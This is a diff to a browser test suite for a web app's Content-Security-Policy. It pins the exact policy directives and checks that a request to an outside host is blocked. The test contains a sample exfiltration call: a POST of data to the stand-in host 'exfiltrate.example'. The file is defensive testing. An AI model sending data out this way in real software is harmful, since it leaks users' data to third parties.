@@ -1,6 +1,6 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { BrowserContext } from 'playwright-core';
-import { CONTENT_SECURITY_POLICY, MODEL_HOSTS } from '../../scripts/content-security-policy.ts';
+import { CONTENT_SECURITY_POLICY } from '../../scripts/content-security-policy.ts';
 import { launchChromium } from './launch-chromium.ts';
 import { serveBuiltApp, type BuiltApp } from './serve-built-app.ts';
 
@@ -20,9 +20,17 @@ describe('Content-Security-Policy', () => {
   });
 
   it('allows connections only to the app and the model hosts', () => {
-    const connect = CONTENT_SECURITY_POLICY.split('; ').find((d) => d.startsWith('connect-src'));
-    expect(connect).toBe(`connect-src 'self' ${MODEL_HOSTS.join(' ')}`);
-    expect(CONTENT_SECURITY_POLICY).toContain("default-src 'self'");
+    // Written out, not rebuilt from MODEL_HOSTS: a host added there or any loosened directive fails here.
+    expect(CONTENT_SECURITY_POLICY.split('; ')).toEqual([
+      "default-src 'self'",
+      "script-src 'self' 'wasm-unsafe-eval'",
+      "worker-src 'self' blob:",
+      "style-src 'self' 'unsafe-inline'",
+      "img-src 'self' data: blob:",
+      "connect-src 'self' https://huggingface.co https://*.huggingface.co https://*.hf.co https://raw.githubusercontent.com",
+      "object-src 'none'",
+      "base-uri 'self'",
+    ]);
   });
 
   it('is in the built page and blocks a request to any other host before it leaves the browser', async () => {
@@ -35,19 +43,24 @@ describe('Content-Security-Policy', () => {
     expect(meta).toBe(CONTENT_SECURITY_POLICY);
     const outcome = await page.evaluate(async () => {
       const violations: string[] = [];
-      document.addEventListener('securitypolicyviolation', (e) => violations.push(e.blockedURI));
+      // Reported once per policy in force: the header's and the meta tag's. Waits for both (the test times out otherwise).
+      const reported = new Promise<void>((resolve) =>
+        document.addEventListener('securitypolicyviolation', (e) => {
+          if (violations.push(e.blockedURI) === 2) resolve();
+        }),
+      );
+      let fetched: boolean;
       try {
         await fetch('https://exfiltrate.example/collect', { method: 'POST', body: 'row' });
-        return { fetched: true, violations };
+        fetched = true;
       } catch {
-        await new Promise((r) => setTimeout(r, 50));
-        return { fetched: false, violations };
+        fetched = false;
       }
+      await reported;
+      return { fetched, violations };
     });
     expect(outcome.fetched).toBe(false);
-    // Reported once per policy in force (the header and the meta tag).
-    expect(outcome.violations.length).toBeGreaterThan(0);
-    expect(new Set(outcome.violations)).toEqual(new Set(['https://exfiltrate.example/collect']));
+    expect(outcome.violations).toEqual(['https://exfiltrate.example/collect', 'https://exfiltrate.example/collect']);
     expect(requests.filter((u) => u.includes('exfiltrate'))).toEqual([]);
   });
 });
